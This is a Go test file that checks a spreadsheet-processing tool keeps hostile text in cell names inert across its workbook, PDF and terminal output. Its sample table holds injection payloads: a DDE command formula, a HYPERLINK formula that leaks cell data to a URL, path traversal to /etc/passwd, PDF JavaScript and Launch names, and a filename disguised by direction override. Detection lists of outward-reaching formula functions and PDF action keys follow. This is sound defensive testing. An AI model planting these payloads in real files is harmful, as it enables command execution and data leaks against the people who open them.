package main

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"unicode"

	"github.com/xuri/excelize/v2"

	"pourbook/compute/oracle"
	"pourbook/ingest/grid/gridtest"
)

// oddTexts are what stands in a book's names, by what it might do; lost tells
// that a document cannot print some of it, and has to say so.
var oddTexts = map[string]struct {
	text string
	lost bool
}{
	"a formula":                  {text: `=1+1`},
	"a formula to the web":       {text: `=HYPERLINK("http://127.0.0.1:9/?"&A1,"x")`},
	"a formula of another book":  {text: `='[other.xlsx]Sales'!A1`},
	"a command":                  {text: `=cmd|' /C calc'!A0`},
	"plus":                       {text: `+SUM(A1:A9)`},
	"minus":                      {text: `-2+3`},
	"at":                         {text: `@SUM(1)`},
	"an apostrophe":              {text: `'=1+1`},
	"quotes":                     {text: `"a","b";'c'`},
	"markup":                     {text: `</t></si><f>1</f>&amp;<![CDATA[`},
	"an escape":                  {text: `_x0007_x _x003D_1+1`},
	"a terminal's escape":        {text: "a_x001B_[31mred_x0007_"},
	"a new line":                 {text: "two\nlines\tapart"},
	"a PDF's operators":          {text: `(\) Tj ET Q endstream endobj %%EOF`},
	"a PDF's names":              {text: `/JavaScript /Launch <</S/URI>>`},
	"a path":                     {text: `../../../etc/passwd`},
	"a device":                   {text: `NUL:CON|x?*`},
	"a template":                 {text: `{0} {name} {n|one|many}`},
	"a format":                   {text: `%s %d %!v(MISSING)`},
	"emoji":                      {text: "🕯️ wick 👩‍🔬", lost: true},
	"Chinese":                    {text: "檸檬蠟燭", lost: true},
	"Thai":                       {text: "เทียนหอม", lost: true},
	"Hebrew":                     {text: "נר שעווה"},
	"Arabic":                     {text: "شمعة"},
	"a turned direction":         {text: "a\u202egpj.exe"},
	"a direction within":         {text: "a\u2066b\u2069c"},
	"combining marks":            {text: "e\u0301a\u0308o\u0328" + strings.Repeat("\u0300", 60)},
	"marks without a letter":     {text: "\u0301\u0302\u0303 x"},
	"nothing to see":             {text: "a\u200b\u200d\ufeff\u00ad\u2060b"},
	"private letters":            {text: "\ue000\U000f0000", lost: true},
	"no characters":              {text: "\ufffe\uffff", lost: true},
	"a long word":                {text: strings.Repeat("w", 300)},
	"as long as a cell may be":   {text: strings.Repeat("Beeswax and oak ", 2_047) + "."},
	"as long, without a space":   {text: strings.Repeat("x", 32_000)},
	"as long, and not printable": {text: strings.Repeat("檸檬蠟燭 ", 6_000), lost: true},
}

// names are what the odd texts take the place of, wherever it stands in the
// book: of a product, a recipe, a jar, a material and a channel.
var names = []string{"L8C", "Lavender", "Jar 8 oz", "Soy flake", "Web shop"}

// oddBook is the test book with a text in front of each of its names.
func oddBook(t *testing.T, path, text string) {
	t.Helper()
	x, err := excelize.OpenFile(bookPath("plain.xlsx"))
	if err != nil {
		t.Fatal(err)
	}
	defer x.Close()
	changed := map[string]bool{}
	for _, sheet := range x.GetSheetList() {
		rows, err := x.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for r, row := range rows {
			for c, v := range row {
				for _, name := range names {
					if v != name {
						continue
					}
					cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
					if err := x.SetCellStr(sheet, cell, text+" "+name[:3]); err != nil {
						t.Fatal(err)
					}
					changed[name] = true
				}
			}
		}
	}
	if len(changed) != len(names) {
		t.Fatalf("only %v stand in the book", changed)
	}
	if err := x.SaveAs(path); err != nil {
		t.Fatal(err)
	}
}

// Text from the book does nothing in what is written: no formula, no reference
// to the outside, no control of the terminal, no damage to a PDF.
func TestOddTextsDoNothing(t *testing.T) {
	oracle.Need(t, oracle.QPDF)
	tasks := [][]string{{"cost", "--month", "2026-10"}, {"price", "--all"}, {"plan", "--market", "Lantern Fair"}}
	for what, odd := range oddTexts {
		t.Run(what, func(t *testing.T) {
			dir := t.TempDir()
			path := filepath.Join(dir, "book.xlsx")
			oddBook(t, path, odd.text)
			problems := ""
			for _, job := range tasks {
				for _, more := range [][]string{{"--json"}, nil} {
					args := append([]string{"pourbook", job[0], path, "--today", "2026-11-05", "--out", filepath.Join(dir, "out")}, job[1:]...)
					var out, errs bytes.Buffer
					code := run(context.Background(), append(args, more...), streams{in: strings.NewReader(""), out: &out, err: &errs})
					if code != exitDone {
						t.Fatalf("%s: exit status %d, %.300s", job[0], code, errs.String())
					}
					if strings.Contains(strings.Join(strings.Fields(out.String()), " "), "lack; they are printed as boxes") != odd.lost {
						t.Errorf("%s: printed in full: %v; it says %.2000s", job[0], !odd.lost, out.String())
					}
					if more != nil {
						problems += codesOf(t, out.Bytes())
					}
					quiet(t, job[0], out.String()+errs.String())
				}
			}
			if odd.lost != strings.Contains(problems, "missing-glyph") {
				t.Errorf("printed in full: %v; the notes say %s", !odd.lost, problems)
			}
			for name, data := range contents(t, filepath.Join(dir, "out")) {
				if strings.HasSuffix(name, ".xlsx") {
					inertWorkbook(t, name, data, odd.text)
				} else {
					inertPDF(t, filepath.Join(dir, "out", name), data)
				}
			}
		})
	}
}

func codesOf(t *testing.T, results []byte) string {
	t.Helper()
	var r struct{ Problems []struct{ Code string } }
	if err := json.Unmarshal(results, &r); err != nil {
		t.Fatal(err)
	}
	return fmt.Sprint(r.Problems)
}

// quiet fails where a terminal would do more than print.
func quiet(t *testing.T, job, text string) {
	t.Helper()
	i := strings.IndexFunc(text, func(r rune) bool {
		return r != '\n' && unicode.IsControl(r) || r >= 0x202a && r <= 0x202e || r >= 0x2066 && r <= 0x2069
	})
	if i >= 0 {
		t.Errorf("%s prints %q", job, text[max(0, i-20):min(len(text), i+20)])
	}
}

var formulaXML = regexp.MustCompile(`<f[^>]*>([^<]*)</f>`)

// outward are what formulas could reach the outside with.
var outward = []string{"HYPERLINK", "WEBSERVICE", "[", "|", "http", "DDE", "INDIRECT", "CALL("}

func inertWorkbook(t *testing.T, name, data, text string) {
	t.Helper()
	for _, x := range gridtest.Of(t, []byte(data)) {
		for _, w := range []string{"externalLink", "oleObject", "vbaProject", "connections.xml"} {
			if strings.Contains(x.Name, w) {
				t.Errorf("%s holds %s", name, x.Name)
			}
		}
		if strings.Contains(x.Text, `TargetMode="External"`) {
			t.Errorf("%s: %s refers to the outside", name, x.Name)
		}
		for _, m := range formulaXML.FindAllStringSubmatch(x.Text, -1) {
			for _, w := range outward {
				if strings.Contains(m[1], w) && !strings.Contains(m[1], "[["+w) {
					t.Errorf("%s: %s has the formula %.200s", name, x.Name, m[1])
				}
			}
			if len(text) > 5 && strings.Contains(m[1], text) {
				t.Errorf("%s: %s has the text in the formula %.200s", name, x.Name, m[1])
			}
		}
	}
}

func inertPDF(t *testing.T, path, data string) {
	t.Helper()
	if out, err := exec.Command("qpdf", "--check", path).CombinedOutput(); err != nil {
		t.Errorf("%s: %v\n%.500s", filepath.Base(path), err, out)
	}
	flat, err := exec.Command("qpdf", "--qdf", "--object-streams=disable", path, "-").Output()
	if err != nil {
		t.Error(err)
	}
	for _, key := range []string{"/JS", "/JavaScript", "/Launch", "/URI", "/OpenAction", "/EmbeddedFile", "/AA"} {
		if regexp.MustCompile(`(?m)^\s*` + key + `\b`).Match(flat) {
			t.Errorf("%s has %s", filepath.Base(path), key)
		}
	}
	if !strings.HasPrefix(data, "%PDF-") {
		t.Errorf("%s is no PDF", filepath.Base(path))
	}
}
